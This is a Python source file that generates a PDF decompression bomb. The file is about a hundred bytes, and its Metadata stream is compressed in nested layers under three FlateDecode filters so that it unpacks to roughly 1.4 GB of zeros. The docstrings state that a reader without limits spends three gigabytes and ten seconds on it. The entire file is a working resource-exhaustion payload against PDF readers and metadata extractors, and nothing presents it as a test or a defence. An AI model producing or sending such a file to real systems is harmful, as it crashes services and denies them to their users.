"""A PDF of some hundred bytes whose description, unpacked three times, is larger than most machines' memory."""

import zlib
from typing import Final

BLOCK: Final = 1 << 20
FLAT_BYTES: Final = 1_400 * BLOCK
_ADLER_BASE: Final = 65521
_ZLIB_HEADER: Final = b"\x78\xda"


def bomb() -> bytes:
    """Return the file. What reads its metadata without a limit takes three gigabytes and ten seconds."""
    packed = zlib.compress(zlib.compress(_zeros(), 9), 9)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/Metadata 3 0 R>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode/FlateDecode]>>stream\n%b\nendstream" % (len(packed), packed),
    )
    file, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(file)
    return file + b"xref\n0 4\n0000000000 65535 f \n" + table + trailer


def _zeros() -> bytes:
    """Return zeros packed once, put together from one packed block: packing them all would take seconds."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (FLAT_BYTES % _ADLER_BASE) << 16 | 1
    return _ZLIB_HEADER + block * (FLAT_BYTES // BLOCK) + b"\x03\x00" + checksum.to_bytes(4)
